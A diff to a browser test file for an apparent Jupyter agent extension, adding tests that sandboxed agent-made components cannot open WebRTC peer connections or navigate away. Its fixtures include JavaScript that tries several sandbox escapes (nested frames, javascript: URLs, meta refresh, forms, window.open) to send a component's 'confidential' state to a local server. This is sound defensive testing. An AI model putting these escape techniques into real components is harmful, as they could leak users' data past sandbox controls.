@@ -6,7 +6,14 @@ frame (the component's own buttons) and outside it (the Submit the widget adds).
 
 from __future__ import annotations
 
+import html
+import http.server
 import json
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from typing import Any
 
 import pytest
 
@@ -17,6 +24,11 @@ from .capabilities import needs_widget_replies
 from .test_browser import cell, run_notebook, save_screenshot, wait_idle
 
 pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser-2"), needs_widget_replies]
+
+def component_frame(card):
+    """The component's own frame: inside our frame, inside the widget's card."""
+    return card.frame_locator("iframe.ak-component-frame").frame_locator("iframe")
+
 
 TALLY_HTML = """
 <h3 id=title>Tally v1</h3>
@@ -58,7 +70,9 @@ def test_a_component_renders_calls_its_declared_tool_and_returns_what_was_submit
     assert "Made by the agent in session" in card.inner_text() and "no untrusted content" in card.inner_text()
     frame_element = card.locator("iframe.ak-component-frame")
     assert frame_element.get_attribute("sandbox") == "allow-scripts"
-    frame = card.frame_locator("iframe.ak-component-frame")
+    inner_element = card.frame_locator("iframe.ak-component-frame").locator("iframe")
+    assert inner_element.get_attribute("sandbox") == "allow-scripts"
+    frame = component_frame(card)
     frame.locator("#add").click()
     frame.locator("#add").click()
     frame.locator("#count").filter(has_text="2").wait_for(timeout=10_000)
@@ -80,7 +94,7 @@ def test_a_component_renders_calls_its_declared_tool_and_returns_what_was_submit
     assert "tally · version 1 · Submitted" in agent_cell.locator(".agent-kernel-component-static").first.inner_text()
     live = agent_cell.locator(".ak-component")
     assert live.count() == 1 and "tally · version 2" in live.inner_text()
-    live.frame_locator("iframe.ak-component-frame").get_by_text("Tally v2").wait_for(timeout=30_000)
+    component_frame(live).get_by_text("Tally v2").wait_for(timeout=30_000)
 
     # The saved notebook holds the static record and no script.
     page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
@@ -166,7 +180,7 @@ def test_in_ask_mode_a_components_writing_call_waits_for_the_approval_card(lab_p
     agent_cell = cell(page, 1)
     card = agent_cell.locator(".ak-component").first
     card.wait_for(timeout=60_000)
-    frame = card.frame_locator("iframe.ak-component-frame")
+    frame = component_frame(card)
     frame.locator("#go").click()
     approval = agent_cell.locator(".ak-choice").filter(has_text="approved = 6 * 7")
     approval.wait_for(timeout=30_000)
@@ -178,3 +192,222 @@ def test_in_ask_mode_a_components_writing_call_waits_for_the_approval_card(lab_p
     wait_idle(page)
     answer = json.loads(result_text(tool_results(lab_model.requests[start + 1])[0]))
     assert answer == {"action": "submit", "state": {}}
+
+
+# -- the network the frame must not reach: WebRTC and its own navigation --------------------
+
+
+@pytest.fixture
+def udp_listener() -> Iterator[socket.socket]:
+    """A UDP socket on 127.0.0.1 standing in for a STUN/TURN server; what reaches it stays queued."""
+    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listener.bind(("127.0.0.1", 0))
+    listener.setblocking(False)
+    try:
+        yield listener
+    finally:
+        listener.close()
+
+
+def datagrams(listener: socket.socket) -> list[bytes]:
+    """The datagrams queued at ``listener`` since the last look."""
+    got = []
+    while True:
+        try:
+            got.append(listener.recv(65536))
+        except BlockingIOError:
+            return got
+
+
+class Recorder(http.server.BaseHTTPRequestHandler):
+    """Records every request's path, whatever its method, and answers 200."""
+
+    paths: list[str]
+
+    def _record(self) -> None:
+        self.paths.append(self.path)
+        body = b"recorded"
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    do_GET = do_POST = do_HEAD = _record
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def recording_server() -> Iterator[tuple[str, list[str]]]:
+    """An HTTP server on 127.0.0.1 that records the paths it is asked for."""
+    paths: list[str] = []
+    handler = type("Recording", (Recorder,), {"paths": paths})
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", paths
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+# The script a frame runs to reach the listener: a STUN binding and a TURN allocation
+# (ICE gathering starts once the local description is set).
+DIAL = """function dial(W) {
+  try {
+    var pc = new W.RTCPeerConnection({ iceServers: [
+      { urls: 'stun:127.0.0.1:PORT' },
+      { urls: 'turn:127.0.0.1:PORT?transport=udp', username: 'u', credential: 'p' } ] });
+    pc.createDataChannel('out');
+    pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
+    return 'dialled';
+  } catch (e) { return 'refused: ' + e.name; }
+}"""
+# A frame's own script dials and tells its parent (the component) what happened.
+NESTED_DIAL = DIAL + " parent.postMessage({ nested: 'LABEL', result: dial(window) }, '*');"
+PEER_JS = """
+const report = {};
+window.addEventListener('message', (event) => {
+  if (event.data && event.data.nested) report[event.data.nested] = event.data.result;
+});
+report.here = dial(window);
+report.webkit = typeof webkitRTCPeerConnection;
+// A fresh window's constructor: a blank frame of our own; and frames running their own script.
+const blank = document.createElement('iframe');
+document.body.appendChild(blank);
+try { report['blank frame'] = dial(blank.contentWindow); } catch (e) { report['blank frame'] = 'refused: ' + e.name; }
+const nested = document.createElement('iframe');
+nested.srcdoc = '<scr' + 'ipt>' + SRCDOC_SCRIPT + '</scr' + 'ipt>';
+document.body.appendChild(nested);
+const viaUrl = document.createElement('iframe');
+viaUrl.src = 'javascript:' + JSON.stringify('<scr' + 'ipt>' + URL_SCRIPT + '</scr' + 'ipt>');
+document.body.appendChild(viaUrl);
+setTimeout(() => { document.getElementById('out').textContent = 'done ' + JSON.stringify(report); }, 3000);
+"""
+# The Jupyter page itself dials: the control that the listener hears Chromium's STUN.
+PAGE_DIALS = """(port) => {
+  const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
+  pc.createDataChannel('control');
+  window.__akControl = pc;
+  return pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+}"""
+
+
+def peer_component(port: int) -> dict[str, str]:
+    """An inline component that tries every way to a peer connection it has to the listener."""
+    dial = DIAL.replace("PORT", str(port))
+
+    def nested(label: str) -> str:
+        return NESTED_DIAL.replace("PORT", str(port)).replace("LABEL", label).replace("\n", " ")
+
+    js = dial + PEER_JS.replace("SRCDOC_SCRIPT", json.dumps(nested("srcdoc frame"))).replace(
+        "URL_SCRIPT", json.dumps(nested("javascript: frame"))
+    )
+    framed = html.escape("<script>" + nested("markup frame") + "</script>")
+    markup = f'<pre id=out>running</pre><iframe srcdoc="{framed}"></iframe>'
+    return {"html": markup, "js": js}
+
+
+def test_a_component_reaches_no_peer_connection_whatever_window_it_takes_it_from(
+    lab_page, jupyterlab, lab_model, udp_listener
+):
+    page = lab_page
+    port = udp_listener.getsockname()[1]
+    lab_model.add(
+        call("render_blocks", blocks=[{"type": "component", "height": 200, **peer_component(port)}]),
+        say("Shown."),
+    )
+    run_notebook(page, jupyterlab, "peer", ["%load_ext agent_kernel", "%agent show it"])
+    agent_cell = cell(page, 1)
+    agent_cell.get_by_text("Shown.").wait_for(timeout=60_000)
+    out = component_frame(agent_cell.locator(".ak-component").first).locator("#out")
+    out.filter(has_text="done").wait_for(timeout=30_000)
+    time.sleep(2)  # ICE gathering that began would have sent by now
+    report = json.loads(out.inner_text().split("done ", 1)[1])
+    assert datagrams(udp_listener) == [], report
+    assert report["here"] == "refused: TypeError" and report["webkit"] == "undefined"
+    assert report["blank frame"].startswith("refused: ")
+    assert not {"srcdoc frame", "javascript: frame", "markup frame"} & set(report)  # their scripts never ran
+    wait_idle(page)
+
+    # Control: the Jupyter page's own peer connection reaches the listener.
+    page.evaluate(PAGE_DIALS, port)
+    deadline = time.monotonic() + 15
+    while not datagrams(udp_listener) and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert time.monotonic() < deadline, "the control's STUN binding never reached the listener"
+
+
+NAVIGATIONS = {
+    "location": ("<p>location</p>", "location.href = TARGET;"),
+    "meta refresh": (
+        "<p>meta refresh</p>",
+        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + TARGET;"
+        " document.head.appendChild(m);",
+    ),
+    "form": (
+        "<form id=f method=get action=SERVER/selfnav><input type=hidden name=state value=form></form>",
+        "document.getElementById('f').elements.state.value = JSON.stringify(ak.state);"
+        " document.getElementById('f').submit();",
+    ),
+    "anchor": ("<a id=a href=#>anchor</a>", "const a = document.getElementById('a'); a.href = TARGET; a.click();"),
+    "anchor to the top": (
+        "<a id=a target=_top href=#>top</a>", "const a = document.getElementById('a'); a.href = TARGET; a.click();"
+    ),
+    "window.open": ("<p>open</p>", "window.open(TARGET);"),
+}
+
+
+def navigating_component(way: str, server: str) -> dict[str, Any]:
+    """An inline component that says it is about to navigate ``way`` to ``server``, carrying its state."""
+    markup, navigate = NAVIGATIONS[way]
+    target = json.dumps(f"{server}/selfnav?way={way}")
+    js = (
+        f"const TARGET = {target} + '&state=' + encodeURIComponent(JSON.stringify(ak.state));"
+        f" ak.send('navigating', {json.dumps(way)}); setTimeout(() => {{ {navigate} }}, 300);"
+    )
+    return {
+        "type": "component", "name": "way_" + way.replace(" ", "_").replace(".", "_"), "height": 60,
+        "html": markup.replace("SERVER", server), "js": js, "messages": ["navigating"],
+        "state": {"sales": "CONFIDENTIAL-ROWS-42"},
+    }
+
+
+def test_a_component_that_navigates_itself_sends_no_request(lab_page, jupyterlab, lab_model, recording_server):
+    page = lab_page
+    server, paths = recording_server
+    start = len(lab_model.requests)
+    lab_model.add(
+        call("render_blocks", blocks=[navigating_component(way, server) for way in NAVIGATIONS]),
+        call("render_and_wait", html="<p>Press Submit when they are done.</p>", height=60),
+        say("Shown."),
+        say("Noted."),
+    )
+    cells = ["%load_ext agent_kernel", "%agent show them", "%agent what did they say?"]
+    run_notebook(page, jupyterlab, "selfnav", cells)
+    agent_cell = cell(page, 1)
+    gate = agent_cell.locator(".ak-component").filter(has_text="inline (inline component)")
+    gate.get_by_role("button", name="Submit").wait_for(timeout=60_000)
+    notices = agent_cell.locator(".ak-component-notice").filter(has_text="tried to navigate")
+    notices.nth(1).wait_for(timeout=30_000)  # location and meta refresh loaded a document in place of theirs
+    time.sleep(2)  # the other ways had their chance too
+    gate.get_by_role("button", name="Submit").click()
+    agent_cell.get_by_text("Shown.").wait_for(timeout=60_000)
+    cell(page, 2).get_by_text("Noted.").wait_for(timeout=60_000)
+    wait_idle(page)
+    assert paths == []
+    assert page.url.startswith(jupyterlab.url) and len(page.context.pages) == 1
+    # Each component's script ran up to its navigation (its message reached the next turn).
+    context = lab_model.requests[start + 3]["messages"][-1]["content"][0]["text"]
+    for way in NAVIGATIONS:
+        assert f"navigating: {json.dumps(way)}" in context
+
+    # Control: a request from the Jupyter page reaches the recorder.
+    page.evaluate("(url) => fetch(url, { mode: 'no-cors' })", server + "/control")
+    deadline = time.monotonic() + 10
+    while paths != ["/control"] and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert paths == ["/control"]
